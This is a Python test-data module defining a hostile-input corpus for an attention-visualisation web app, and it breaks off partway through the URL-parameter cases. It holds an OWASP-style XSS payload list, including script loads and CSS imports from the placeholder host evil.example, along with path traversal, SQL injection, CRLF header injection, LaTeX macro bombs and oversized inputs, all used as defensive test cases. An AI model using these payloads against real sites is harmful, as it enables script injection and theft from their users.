"""The hostile-input corpus: what an audience can type, paste, link or upload. Data only.

Each ``Case`` names a target, a payload and what the page must do with it:

* ``expect="ok"``: the page works with the input (it may add a note, ``says``);
* ``expect="refused"``: the page declines it and shows a clear message containing ``says``.

Targets
    ``text:<page>:<key>``  typed into a text widget (``set_value``: what a tampered client
                           can send, ignoring the box's own character limit)
    ``store:lookup``       a key typed into /lookup's editable store, then queried
    ``url:<page>:<key>``   a URL parameter of a freshly opened page (``payload`` may be a
                           list: the parameter repeated, as in ``?layer=1&layer=99``)
    ``csv:smoothing``      a file uploaded on /smoothing (``payload`` bytes, ``filename``)

Lone surrogates (U+D800–U+DFFF) are not here: no real client can deliver one. Widget
values travel as protobuf strings, which must be valid UTF-8 (protobuf refuses to
serialise a lone surrogate), and a URL's ``%ED%A0%80`` is decoded by ``parse_qs`` with
``errors="replace"`` into U+FFFD. The corpus carries U+FFFD instead
(``replacement-char``), and ``tests/test_hostile_inputs.py`` feeds real surrogates to
``qkv_core`` directly and proves both claims.

``known_issue``: a case that currently fails, reported to the page's owner; its test is
a strict xfail, so it turns red (XPASS) once fixed and the mark can go.
"""

from __future__ import annotations

import base64
import re
import zlib
from dataclasses import dataclass
from typing import Any

from qkv_core import store

SAME = object()  # Case.value default: the control takes the payload itself
ANY = object()  # Case.value for parameters no page reads: nothing to compare


@dataclass(frozen=True)
class Case:
    """One hostile input and the behaviour the page owes it."""

    id: str
    target: str
    payload: Any  # str, list[str] or bytes
    expect: str  # "ok" | "refused"
    kind: str  # category, for coverage counts
    says: str = ""  # text the page must show ("" = no particular message)
    value: Any = SAME  # url "ok" cases: the value the control must end up with
    extra: tuple[tuple[str, str], ...] = ()  # other URL parameters the case needs
    filename: str = "data.csv"
    known_issue: str = ""

    @property
    def page(self) -> str:
        return self.target.split(":")[1]

    @property
    def key(self) -> str:
        return self.target.split(":")[2] if self.target.count(":") >= 2 else ""


# ============================================================ payloads shared by text fields

# Our own list in the style of OWASP's XSS filter-evasion cheat sheet: script tags, event
# handlers, javascript:/data: URLs, entity and case tricks, mutation-XSS shapes, remote
# resources (a request to another host is a failure in the browser tests).
XSS = (
    ("script-tag", "<script>alert(1)</script>"),
    ("script-upper", "<SCRIPT>alert('XSS')</SCRIPT>"),
    ("script-remote", '<script src="http://evil.example/x.js"></script>'),
    ("script-split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-double-lt", '<<script>alert("x");//<</script>'),
    ("script-close-first", "</script><script>alert(1)</script>"),
    ("breakout-dq", '"><script>alert(1)</script>'),
    ("breakout-sq", "'><img src=x onerror=alert(1)>"),
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-onerror-cookie", '<img src="x" onerror="alert(document.cookie)">'),
    ("img-js-mixed-case", "<IMG SRC=JaVaScRiPt:alert('XSS')>"),
    ("img-backtick", '<IMG SRC=`javascript:alert("XSS")`>'),
    ("img-decimal-entities", "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
                             "&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
    ("img-hex-entities", "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C"
                         "&#x65&#x72&#x74&#x28&#x31&#x29>"),
    ("img-tab-in-scheme", '<IMG SRC="jav\tascript:alert(1);">'),
    ("img-newline-entity", '<IMG SRC="jav&#x0A;ascript:alert(1);">'),
    ("img-nul-in-scheme", "<IMG SRC=java\x00script:alert(1)>"),
    ("img-remote", '<img src="http://evil.example/pixel.png">'),
    ("img-malformed", '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">'),
    ("img-eval-src", "<img src=x:alert(alt) onerror=eval(src) alt=0>"),
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-slash", "<svg/onload=alert(1)>"),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("body-onload", "<body onload=alert(1)>"),
    ("iframe-js", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("object-js", '<object data="javascript:alert(1)"></object>'),
    ("embed-data", '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'),
    ("a-js", '<a href="javascript:alert(1)">click me</a>'),
    ("a-entity-js", '<a href="&#106;avascript:alert(1)">x</a>'),
    ("details-ontoggle", "<details open ontoggle=alert(1)>"),
    ("input-onfocus", "<input autofocus onfocus=alert(1)>"),
    ("video-onerror", "<video><source onerror=alert(1)></video>"),
    ("audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("marquee", "<marquee onstart=alert(1)>x</marquee>"),
    ("custom-tag", "<xss id=x tabindex=1 onfocus=alert(1) autofocus></xss>"),
    ("style-import", "<style>@import 'http://evil.example/x.css';</style>"),
    ("style-js-url", '<div style="background:url(javascript:alert(1))">x</div>'),
    ("link-css", '<link rel=stylesheet href="http://evil.example/x.css">'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("base-href", '<base href="http://evil.example/">'),
    ("form-action", "<form action=javascript:alert(1)><button>go</button></form>"),
    ("mxss-math", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("mxss-noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("comment-breakout", '<!--<img src="--><img src=x onerror=alert(1)//">'),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    ("js-url", "javascript:alert(1)"),
    ("data-url", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("percent-encoded", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ("js-escapes", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
    ("fullwidth-lt", "＜script＞alert(1)＜/script＞"),
    ("template", "{{constructor.constructor('alert(1)')()}}"),
    ("js-template", "${alert(1)}"),
    ("attr-only", '" onmouseover="alert(1)'),
    ("vega-signal", '{"signal": "alert(1)", "expr": "alert(1)"}'),
    ("proto-pollution", '{"__proto__": {"polluted": 1}}'),
)

# Markdown and LaTeX that could turn into links, images, headings or a broken layout.
MARKUP = (
    ("md-heading", "# Heading\n## Sub"),
    ("md-emphasis", "**bold** _italic_ ~~strike~~"),
    ("md-fence", "```python\nimport os\n```"),
    ("md-open-fence", "```\nnever closed"),
    ("md-link-js", "[click](javascript:alert(1))"),
    ("md-link-remote", "[link](http://evil.example/)"),
    ("md-image-remote", "![pixel](http://evil.example/pixel.png)"),
    ("md-autolink", "<http://evil.example/>"),
    ("md-table", "| a | b |\n|---|---|\n| 1 | 2 |"),
    ("md-quote-list", "> quote\n- item\n1. one"),
    ("md-rules", "---\n***\n___"),
    ("md-details", "<details><summary>open me</summary>hidden</details>"),
    ("md-shortcodes", ":material/warning: :red[red] :blue-background[x] :smile:"),
    ("md-10k-stars", "*" * 10_000),
    ("md-nested-brackets", "[" * 5_000 + "]" * 5_000),
    ("md-5k-backticks", "`" * 5_000),
    ("latex-inline", "$x^2 + y^2$"),
    ("latex-block", "$$\\int_0^\\infty e^{-x}\\,dx$$"),
    ("latex-href", "$\\href{javascript:alert(1)}{click}$"),
    ("latex-html", "$\\htmlStyle{color:red}{x}\\htmlData{a=b}{y}$"),
    ("latex-macro-bomb", "$$\\def\\a{\\a\\a}\\a$$"),
    ("latex-huge-rule", "$\\rule{100000em}{100000em}$"),
    ("latex-unbalanced", "$\\frac{1}{$"),
    ("latex-2k-dollars", "$" * 2_001),
    ("backslashes", "\\\\ \\n \\x00 \\"),
)

# Sizes, scripts, invisible and control characters, and other odd text.
ODD = (
    ("empty", "empty", ""),
    ("spaces", "whitespace", "   "),
    ("whitespace-mix", "whitespace", " \t\n\r\u00a0\u2003\u3000 "),
    ("newlines-10k", "whitespace", "\n" * 10_000),
    ("one-letter", "one_char", "a"),
    ("one-punct", "one_char", "?"),
    ("one-emoji", "one_char", "🙂"),
    ("100k-one-word", "huge", "a" * 100_000),
    ("100k-words", "huge", "attention " * 10_000),
    ("100k-mixed", "huge", ("Queries 🙂 ключ مفتاح <b>x</b> \u200b " * 3_000)[:100_000]),
    ("5k-char-word", "huge", "start " + "x" * 5_000 + " end"),
    ("emoji", "emoji", "I love 🍕 and 🐈‍⬛"),
    ("zwj-family", "zwj", "👨‍👩‍👧‍👦 family"),
    ("flags-tones", "emoji", "🇺🇳 👍🏽 🏳️‍🌈"),
    ("5k-emoji", "emoji", "😀" * 5_000),
    ("zalgo", "combining", "Z̵̡a̸l̷g̶o̴ ̷t̶e̵x̸t"),
    ("1k-combining", "combining", "e" + "\u0301" * 1_000),
    ("combining-only", "combining", "\u0301\u0302\u0303"),
    ("arabic", "rtl", "مرحبا بالعالم"),
    ("hebrew", "rtl", "שלום עולם"),
    ("mixed-direction", "rtl", "The word سلام means peace, and so does שלום."),
    ("bidi-override", "bidi", "user\u202eexe.txt\u202c and \u2066isolate\u2069"),
    ("zero-width", "zero_width", "zero\u200bwidth\u200cnon\u200djoiner\ufeffbom"),
    ("zero-width-only", "zero_width", "\u200b\u200c\u200d\ufeff"),
    ("c0-controls", "control", "bell\x07 back\x08 esc\x1b[31m red \x1b[0m"),
    ("c1-controls", "control", "next\x85line \x9b csi"),
    ("controls-only", "control", "\x01\x02\x03\x1f\x7f"),
    ("line-separators", "control", "one\u2028two\u2029three"),
    ("nul-inside", "nul", "before\x00after"),
    ("nul-only", "nul", "\x00" * 10),
    ("replacement-char", "surrogate", "\ufffd\ufffd is what a lone surrogate in a link becomes"),
    ("noncharacters", "unicode", "\uffff\ufffe\U0010ffff"),
    ("private-use", "unicode", "\ue000\uf8ff"),
    ("cjk", "unicode", "注意力机制是关键"),
    ("devanagari-thai", "unicode", "ध्यान ความสนใจ"),
    ("math-alnum", "unicode", "𝐀𝐭𝐭𝐞𝐧𝐭𝐢𝐨𝐧 𝔮𝔨𝔳"),
    ("fullwidth", "unicode", "Ａｔｔｅｎｔｉｏｎ"),
    ("special-tokens", "special_tokens", "[CLS] [SEP] [MASK] [PAD] [UNK] ##ing"),
    ("number-words", "numeric", "1e309 -1e309 NaN -inf 0x7fffffff 99999999999999999999"),
    ("format-strings", "injection", "%s %n %x {0} {__class__} %(x)s"),
    ("path-traversal", "injection", "../../../../etc/passwd"),
    ("sql", "injection", "'; DROP TABLE users;--"),
    ("crlf", "injection", "a\r\nSet-Cookie: x=1\r\n\r\n<html>"),
)

TEXTS = (
    *((f"xss-{name}", "html_js", payload) for name, payload in XSS),
    *((name, "markdown_latex", payload) for name, payload in MARKUP),
    *ODD,
)

# What the pages say about particular texts (everything else: no special message needed).
ATTENTION_NOTES = {
    "empty": "The text is empty",
    "spaces": "The text is empty",
    "whitespace-mix": "The text is empty",
    "newlines-10k": "The text is empty",
    "zero-width-only": "finds no word pieces",
    "controls-only": "finds no word pieces",
    "nul-only": "finds no word pieces",
    "combining-only": "finds no word pieces",
    "100k-one-word": "Only the first 20,000 characters are used",
    "100k-words": "the model takes at most 512",
    "100k-mixed": "Only the first 20,000 characters are used",
    "one-emoji": "[UNK]",
    "emoji": "[UNK]",
    "5k-emoji": "[UNK]",
    "5k-char-word": "[UNK]",
    "md-10k-stars": "the model takes at most 512",
    "md-nested-brackets": "the model takes at most 512",
    "md-5k-backticks": "the model takes at most 512",
    "latex-2k-dollars": "the model takes at most 512",
}
LOOKUP_REFUSED = {name: "Type a query" for name in ("empty", "spaces", "whitespace-mix", "newlines-10k")}
LOOKUP_NOTES = {
    "100k-one-word": "Queries stop at 1,000 characters",
    "100k-words": "Queries stop at 1,000 characters",
    "100k-mixed": "Queries stop at 1,000 characters",
    "5k-char-word": "Queries stop at 1,000 characters",
    "5k-emoji": "Queries stop at 1,000 characters",
    "1k-combining": "Queries stop at 1,000 characters",
    "md-10k-stars": "Queries stop at 1,000 characters",
    "md-nested-brackets": "Queries stop at 1,000 characters",
    "md-5k-backticks": "Queries stop at 1,000 characters",
    "latex-2k-dollars": "Queries stop at 1,000 characters",
    "one-emoji": "unknown to the model",
    "emoji": "unknown to the model",
    "zero-width-only": "no word pieces",
    "controls-only": "no word pieces",
    "nul-only": "no word pieces",
    "combining-only": "no word pieces",
}

# A sample of the texts for the context view's two sentences and word, and the store's keys.
CONTEXT_SAMPLE = ("empty", "spaces", "100k-words", "100k-one-word", "zwj-family", "zalgo", "bidi-override",
                  "nul-inside", "controls-only", "special-tokens", "xss-img-onerror", "xss-script-tag",
                  "md-image-remote", "latex-macro-bomb", "md-10k-stars")
WORD_SAMPLE = ("empty", "spaces", "one-punct", "one-emoji", "xss-img-onerror", "xss-breakout-dq",
               "md-emphasis", "md-10k-stars", "latex-inline", "nul-inside", "zero-width-only",
               "special-tokens", "100k-one-word", "replacement-char")
STORE_SAMPLE = ("xss-img-onerror", "xss-script-tag", "md-image-remote", "md-link-js", "latex-href",
                "zwj-family", "bidi-override", "nul-inside", "100k-one-word", "special-tokens")


def _text_cases() -> list[Case]:
    texts = {name: (kind, payload) for name, kind, payload in TEXTS}
    cases = []
    for name, (kind, payload) in texts.items():
        cases.append(Case(f"attention-text/{name}", "text:attention:text", payload, "ok", kind,
                          says=ATTENTION_NOTES.get(name, "")))
        if name in LOOKUP_REFUSED:
            cases.append(Case(f"lookup-q/{name}", "text:lookup:q", payload, "refused", kind, says=LOOKUP_REFUSED[name]))
        else:
            cases.append(Case(f"lookup-q/{name}", "text:lookup:q", payload, "ok", kind, says=LOOKUP_NOTES.get(name, "")))
    for name in CONTEXT_SAMPLE:
        kind, payload = texts[name]
        cases.append(Case(f"attention-s1/{name}", "text:attention:s1", payload, "ok", kind))
    for name in WORD_SAMPLE:
        kind, payload = texts[name]
        cases.append(Case(f"attention-word/{name}", "text:attention:word", payload, "ok", kind))
    for name in STORE_SAMPLE:
        kind, payload = texts[name]
        cases.append(Case(f"lookup-store/{name}", "store:lookup", payload, "ok", kind))
    return cases


# ============================================================ URL parameters

NUMBER_JUNK = (  # refused by every number parameter
    ("empty", "empty", ""),
    ("blank", "whitespace", "   "),
    ("word", "numeric", "abc"),
    ("nan", "nan_inf", "nan"),
    ("inf", "nan_inf", "inf"),
    ("minus-inf", "nan_inf", "-inf"),
    ("overflow", "nan_inf", "1e309"),
    ("hex", "numeric", "0x10"),
    ("nul-suffix", "nul", "5\x00"),
    ("markup", "html_js", "<img src=x onerror=alert(1)>"),
    ("4000-digits", "absurd_size", "9" * 4_000),
    ("4001-chars", "absurd_size", "1" * 4_001),
)


def _url(page: str, key: str, name: str, payload: Any, expect: str, kind: str, value: Any = SAME,
         extra: tuple[tuple[str, str], ...] = (), says: str = "", known_issue: str = "") -> Case:
    label = re.sub(r"\W+", "_", key).strip("_")
    return Case(f"url-{page}-{label}/{name}", f"url:{page}:{key}", payload, expect, kind, value=value, extra=extra,
                says=says, known_issue=known_issue)


# "one" -> 1 and "a dozen" -> 12: a store code as "Link to this view" writes it for the numbers preset
_NUMBERS_STORE = store.encode_store(["one", "a dozen"], [[1.0], [12.0]], store.numbers_preset())


def deflated_store(json_text: str) -> str:
    """Any JSON, packed as a videos store code (a link crafted by hand)."""
    deflate = zlib.compressobj(9, zdict=store._reference_json(store.video_preset()))
    return "1." + base64.urlsafe_b64encode(deflate.compress(json_text.encode()) + deflate.flush()).decode().rstrip("=")


def _url_cases() -> list[Case]:
    c = []
    # ---- /smoothing
    for name, kind, raw in NUMBER_JUNK:
        c.append(_url("smoothing", "sigma", name, raw, "refused", kind))
    c += [
        _url("smoothing", "sigma", "zero", "0", "refused", "negative"),
        _url("smoothing", "sigma", "negative", "-4", "refused", "negative"),
        _url("smoothing", "sigma", "underflow", "1e-400", "refused", "numeric"),  # reads as 0.0
        _url("smoothing", "sigma", "huge", "1e308", "refused", "absurd_size"),
        _url("smoothing", "sigma", "max", "50", "ok", "numeric", 50.0),
        _url("smoothing", "sigma", "padded", " 7.5 ", "ok", "whitespace", 7.5),
        _url("smoothing", "sigma", "arabic-digits", "٧٫٥", "refused", "unicode"),  # Arabic decimal sign
        _url("smoothing", "sigma", "repeated", ["5", "nan"], "refused", "duplicate"),  # the last one counts
        _url("smoothing", "n", "negative", "-200", "refused", "negative"),
        _url("smoothing", "n", "too-long", "99999", "refused", "absurd_size"),
        _url("smoothing", "n", "2-to-64", "18446744073709551617", "refused", "absurd_size"),
        _url("smoothing", "n", "fraction", "200.5", "refused", "numeric"),
        _url("smoothing", "n", "exponent", "1e3", "refused", "numeric"),
        _url("smoothing", "n", "nan", "nan", "refused", "nan_inf"),
        _url("smoothing", "n", "max", "5000", "ok", "absurd_size", 5000),
        _url("smoothing", "n", "fullwidth-digits", "１０００", "ok", "unicode", 1000),  # int() reads them
        _url("smoothing", "n", "underscore", "1_000", "ok", "numeric", 1000),  # int() reads it too
        _url("smoothing", "noise", "inf", "inf", "refused", "nan_inf"),
        _url("smoothing", "noise", "negative", "-0.5", "refused", "negative"),
        _url("smoothing", "noise", "minus-zero", "-0", "ok", "numeric", 0.0),
        _url("smoothing", "noise", "nan", "NaN", "refused", "nan_inf"),
        _url("smoothing", "noise", "markup", "**1**", "refused", "markdown_latex"),
        _url("smoothing", "noise", "max", "1.5", "ok", "numeric", 1.5),
        _url("smoothing", "seed", "negative", "-1", "refused", "negative"),
        _url("smoothing", "seed", "huge", "9" * 30, "refused", "absurd_size"),
        _url("smoothing", "seed", "float", "3.0", "refused", "numeric"),
        _url("smoothing", "seed", "word", "x", "refused", "numeric"),
        _url("smoothing", "seed", "max", "9999", "ok", "numeric", 9999),
        _url("smoothing", "trunc", "negative", "-1", "refused", "negative"),
        _url("smoothing", "trunc", "inf", "Infinity", "refused", "nan_inf"),
        _url("smoothing", "trunc", "huge", "1e300", "refused", "absurd_size"),
        _url("smoothing", "trunc", "min", "0.5", "ok", "numeric", 0.5),
        _url("smoothing", "t", "negative", "-5", "refused", "negative"),
        _url("smoothing", "t", "fraction", "4.5", "refused", "numeric"),
        _url("smoothing", "t", "too-big", "20000", "refused", "absurd_size"),
        _url("smoothing", "t", "inf", "inf", "refused", "nan_inf"),
        _url("smoothing", "t", "past-end", "19999", "ok", "absurd_size", 100, says="past the end"),
        _url("smoothing", "t", "last", "199", "ok", "numeric", 199),
        _url("smoothing", "sigv", "zero", "0", "refused", "negative"),
        _url("smoothing", "sigv", "nan", "nan", "refused", "nan_inf"),
        _url("smoothing", "sigv", "huge", "3.0000001", "refused", "absurd_size"),
        _url("smoothing", "sigv", "min", "0.05", "ok", "numeric", 0.05),
        _url("smoothing", "src", "unknown", "evil", "refused", "injection"),
        _url("smoothing", "src", "markup", "<svg onload=alert(1)>", "refused", "html_js"),
        _url("smoothing", "src", "case", "CO2", "refused", "injection"),
        _url("smoothing", "src", "padded", "co2 ", "refused", "whitespace"),
        _url("smoothing", "src", "empty", "", "refused", "empty"),
        _url("smoothing", "src", "path", "../../etc/passwd", "refused", "injection"),
        _url("smoothing", "src", "upload", "upload", "ok", "numeric", says="Upload a CSV file"),
        _url("smoothing", "col", "markup", "<img src=x onerror=alert(1)>", "ok", "html_js"),
        _url("smoothing", "col", "markdown", "![x](http://evil.example/x.png)", "ok", "markdown_latex"),
        _url("smoothing", "col", "nul", "a\x00b", "ok", "nul"),
        _url("smoothing", "col", "200-chars", "c" * 200, "ok", "absurd_size"),
        _url("smoothing", "col", "201-chars", "c" * 201, "refused", "absurd_size"),
        _url("smoothing", "col", "with-upload-source", "<b>x</b>", "ok", "html_js", extra=(("src", "upload"),)),
    ]
    # ---- /lookup
    for name, payload in (("xss-img", "<img src=x onerror=alert(1)>"), ("xss-script", "<script>alert(1)</script>"),
                          ("md-image", "![x](http://evil.example/x.png)"), ("latex", "$$\\def\\a{\\a\\a}\\a$$"),
                          ("zwj", "👨‍👩‍👧‍👦"), ("bidi", "a\u202eb"), ("nul", "a\x00b"),
                          ("replacement", "\ufffd\ufffd\ufffd"), ("1000-chars", "q" * 1_000)):
        kind = {"xss-img": "html_js", "xss-script": "html_js", "md-image": "markdown_latex", "latex": "markdown_latex",
                "zwj": "zwj", "bidi": "bidi", "nul": "nul", "replacement": "surrogate"}.get(name, "absurd_size")
        c.append(_url("lookup", "q", name, payload, "ok", kind))
    c += [
        _url("lookup", "q", "empty", "", "ok", "empty", "", says="Type a query"),
        _url("lookup", "q", "1001-chars", "q" * 1_001, "refused", "absurd_size"),
        _url("lookup", "q", "100k-chars", "q" * 100_000, "refused", "huge"),
        _url("lookup", "q", "repeated", ["funny kittens", "<b>x</b>"], "ok", "duplicate", "<b>x</b>"),
        _url("lookup", "temp", "between-stops", "0.3", "refused", "numeric"),
        _url("lookup", "temp", "nan", "nan", "refused", "nan_inf"),
        _url("lookup", "temp", "inf", "inf", "refused", "nan_inf"),
        _url("lookup", "temp", "zero", "0", "refused", "negative"),
        _url("lookup", "temp", "negative", "-0.1", "refused", "negative"),
        _url("lookup", "temp", "overflow", "1e309", "refused", "nan_inf"),
        _url("lookup", "temp", "spelled", "1e-2", "ok", "numeric", 0.01),
        _url("lookup", "temp", "max", "100", "ok", "numeric", 100.0),
        _url("lookup", "sim", "unknown", "euclid", "refused", "injection"),
        _url("lookup", "sim", "markup", "<script>alert(1)</script>", "refused", "html_js"),
        _url("lookup", "sim", "case", "DOT", "refused", "injection"),
        _url("lookup", "sim", "valid", "scaled_dot", "ok", "numeric"),
        _url("lookup", "preset", "path", "../etc", "refused", "injection"),
        _url("lookup", "preset", "proto", "__proto__", "refused", "injection"),
        _url("lookup", "preset", "nul", "videos\x00", "refused", "nul"),
        _url("lookup", "preset", "valid", "numbers", "ok", "numeric"),
        _url("lookup", "store", "empty", "", "refused", "empty"),
        _url("lookup", "store", "markup", "<script>alert(1)</script>", "refused", "html_js"),
        _url("lookup", "store", "padded", " 1.eJwLAQ ", "refused", "whitespace"),
        _url("lookup", "store", "nul", "1.\x00", "refused", "nul"),
        _url("lookup", "store", "junk", "1." + "z" * 3_000, "refused", "absurd_size"),
        _url("lookup", "store", "too-long", "1." + "A" * 5_000, "refused", "huge"),
        _url("lookup", "store", "emoji", "1.🙂", "refused", "emoji"),
        _url("lookup", "store", "json-surrogate", deflated_store('[["a\\ud800b",1,0,0,0,0]]'), "refused", "surrogate"),
        _url("lookup", "store", "json-markup", deflated_store('[["<img src=x onerror=alert(1)>",1,0,0,0,0]]'), "ok",
             "html_js", ANY, says="differs from the preset"),
        _url("lookup", "store", "valid", _NUMBERS_STORE, "ok", "numeric", ANY, extra=(("preset", "numbers"),),
             says="differs from the preset"),
    ]
    # ---- /attention
    context, scaling, explain = (("view", "context"),), (("view", "scaling"),), (("view", "explain"),)
    for name, kind, raw in NUMBER_JUNK[:8]:
        c.append(_url("attention", "layer", name, raw, "refused", kind))
    c += [
        _url("attention", "layer", "zero", "0", "refused", "negative"),
        _url("attention", "layer", "seven", "7", "refused", "absurd_size"),
        _url("attention", "layer", "2-to-63", "9223372036854775808", "refused", "absurd_size"),
        _url("attention", "layer", "valid", "6", "ok", "numeric", 6),
        _url("attention", "layer", "repeated", ["1", "99"], "refused", "duplicate"),
        _url("attention", "head", "zero", "0", "refused", "negative"),
        _url("attention", "head", "thirteen", "13", "refused", "absurd_size"),
        _url("attention", "head", "negative", "-1", "refused", "negative"),
        _url("attention", "head", "word", "two", "refused", "numeric"),
        _url("attention", "head", "markup", "<b>1</b>", "refused", "html_js"),
        _url("attention", "head", "valid", "12", "ok", "numeric", 12),
        _url("attention", "token", "negative", "-3", "refused", "negative"),
        _url("attention", "token", "beyond-model", "512", "refused", "absurd_size"),
        _url("attention", "token", "nan", "nan", "refused", "nan_inf"),
        _url("attention", "token", "last", "14", "ok", "numeric", 14),
        _url("attention", "token", "beyond-text", "300", "refused", "absurd_size", None, says="token"),
        _url("attention", "sqrtd", "two", "2", "refused", "numeric"),
        _url("attention", "sqrtd", "upper", "TRUE", "refused", "injection"),
        _url("attention", "sqrtd", "off", "0", "ok", "numeric", False, says="not divided by √d_head"),
        _url("attention", "causal", "empty", "", "refused", "empty"),
        _url("attention", "causal", "on", "1", "ok", "numeric", True, says="What-if: each token sees only itself"),
        _url("attention", "hide", "yes", "yes", "refused", "injection"),
        _url("attention", "hide", "on", "true", "ok", "numeric", True, says="[CLS] and [SEP] columns hidden"),
        _url("attention", "view", "unknown", "everything", "refused", "injection"),
        _url("attention", "view", "markup", "<iframe src=javascript:alert(1)>", "refused", "html_js"),
        _url("attention", "view", "case", "MAP", "refused", "injection"),
        _url("attention", "view", "empty", "", "refused", "empty"),
        _url("attention", "view", "steps", "steps", "ok", "numeric"),
        _url("attention", "view", "heads", "heads", "ok", "numeric"),
        _url("attention", "text", "xss", "<img src=x onerror=alert(1)><script>alert(2)</script>", "ok", "html_js"),
        _url("attention", "text", "md-image", "![x](http://evil.example/x.png) **b**", "ok", "markdown_latex"),
        _url("attention", "text", "latex", "$$\\def\\a{\\a\\a}\\a$$ and $x$", "ok", "markdown_latex"),
        _url("attention", "text", "empty", "", "ok", "empty", says="The text is empty"),
        _url("attention", "text", "nul-controls", "a\x00b\x07c\x1b", "ok", "control"),
        _url("attention", "text", "zwj-rtl", "👨‍👩‍👧 שלום \u202eabc", "ok", "zwj"),
        _url("attention", "text", "replacement", "\ufffd\ufffd\ufffd", "ok", "surrogate"),
        _url("attention", "text", "4000-chars", "word " * 800, "ok", "absurd_size",
             says="the model takes at most 512"),
        _url("attention", "text", "4001-chars", "w" * 4_001, "refused", "absurd_size"),
        _url("attention", "text", "100k-chars", "w " * 50_000, "refused", "huge"),
        _url("attention", "text", "repeated", ["first", "<b>second</b>"], "ok", "duplicate", "<b>second</b>"),
        _url("attention", "text2", "xss", "<img src=x onerror=alert(1)> so it **was** $x$", "ok", "html_js"),
        _url("attention", "text2", "md-link", "[it](javascript:alert(1))", "ok", "markdown_latex"),
        _url("attention", "text2", "empty", "", "ok", "empty", says="The second text has no 'it' piece"),
        _url("attention", "text2", "4001-chars", "w" * 4_001, "refused", "absurd_size"),
        _url("attention", "s1", "xss", "<svg onload=alert(1)> bank", "ok", "html_js", extra=context),
        _url("attention", "s1", "501-chars", "s" * 501, "refused", "absurd_size", extra=context),
        _url("attention", "s2", "md-link", "[bank](javascript:alert(1))", "ok", "markdown_latex", extra=context),
        _url("attention", "s2", "nul", "\x00bank\x00", "ok", "nul", extra=context),
        _url("attention", "word", "punctuation", "<>", "ok", "html_js", extra=context,
             says="appears in both sentences"),
        _url("attention", "word", "61-chars", "w" * 61, "refused", "absurd_size", extra=context),
        _url("attention", "word", "markup", "**bank**", "ok", "markdown_latex", extra=context),
        _url("attention", "n1", "zero", "0", "refused", "negative", extra=context),
        _url("attention", "n1", "51", "51", "refused", "absurd_size", extra=context),
        _url("attention", "n2", "nan", "nan", "refused", "nan_inf", extra=context),
        _url("attention", "n1", "beyond-text", "5", "refused", "absurd_size", 1, extra=context, says="n1"),
        _url("attention", "d", "not-a-stop", "3", "refused", "numeric", extra=scaling),
        _url("attention", "d", "huge", "1e9", "refused", "absurd_size", extra=scaling),
        _url("attention", "d", "negative", "-64", "refused", "negative", extra=scaling),
        _url("attention", "d", "max", "1024", "ok", "numeric", extra=scaling),
        # the explain view's knockout lab: off= holds 1-based layer.head pairs, checked against the model
        _url("attention", "off", "layer-zero", "0.1", "refused", "negative", extra=explain),
        _url("attention", "off", "past-layers", "7.1", "refused", "absurd_size", extra=explain),
        _url("attention", "off", "trailing-comma", "4.2,", "refused", "empty", extra=explain),
        _url("attention", "off", "markup", "<b>1.1</b>", "refused", "html_js", extra=explain),
        _url("attention", "off", "padded", " 4.2", "refused", "whitespace", extra=explain),
        _url("attention", "off", "fullwidth-digits", "４.２", "refused", "unicode", extra=explain),
        _url("attention", "off", "5000-chars", "1.1," * 1250, "refused", "huge", extra=explain),
        _url("attention", "off", "valid", "4.2,1.3", "ok", "numeric", frozenset({(3, 1), (0, 2)}), extra=explain,
             says="2 of 72 heads off"),
        _url("attention", "weighting", "case", "NORM", "refused", "injection"),
        _url("attention", "weighting", "markup", "<i>norm</i>", "refused", "html_js", extra=explain),
        _url("attention", "weighting", "valid", "norm", "ok", "numeric", says="Value-weighted maps"),
    ]
    # ---- the frame's presenter mode, on every page
    on = (("present", "1"),)
    for page in ("home", "smoothing", "lookup", "attention"):
        c.append(_url(page, "present", "two", "2", "refused", "numeric"))
    c += [
        _url("home", "present", "markup", "<script>alert(1)</script>", "refused", "html_js"),
        _url("home", "present", "empty", "", "refused", "empty"),
        _url("smoothing", "present", "on", "1", "ok", "numeric", True, says="Step 2 / "),
        _url("home", "step", "zero", "0", "refused", "negative", ANY, extra=on),
        _url("home", "step", "too-far", "99", "refused", "absurd_size", ANY, extra=on),
        _url("lookup", "step", "negative", "-1", "refused", "negative", ANY, extra=on),
        _url("lookup", "step", "word", "abc", "refused", "numeric", ANY, extra=on),
        _url("attention", "step", "markup", "<img src=x onerror=alert(1)>", "refused", "html_js", ANY, extra=on),
        _url("attention", "step", "5000-digits", "9" * 5_000, "refused", "absurd_size", ANY, extra=on),
        _url("smoothing", "step", "nan", "nan", "refused", "nan_inf", ANY, extra=on),
        _url("home", "step", "other-page", "2", "refused", "injection", ANY, extra=on),
        _url("smoothing", "step", "valid", "3", "ok", "numeric", ANY, extra=on, says="Step 3 / "),
        _url("smoothing", "step", "without-present", "<b>3</b>", "ok", "html_js", ANY),  # ignored: mode is off
        # presenter mode's QR code: qr=0 hides it; read only while presenting
        _url("home", "qr", "two", "2", "refused", "numeric", True, extra=on),
        _url("lookup", "qr", "markup", "<svg onload=alert(1)>", "refused", "html_js", True, extra=on),
        _url("attention", "qr", "empty", "", "refused", "empty", True, extra=on),
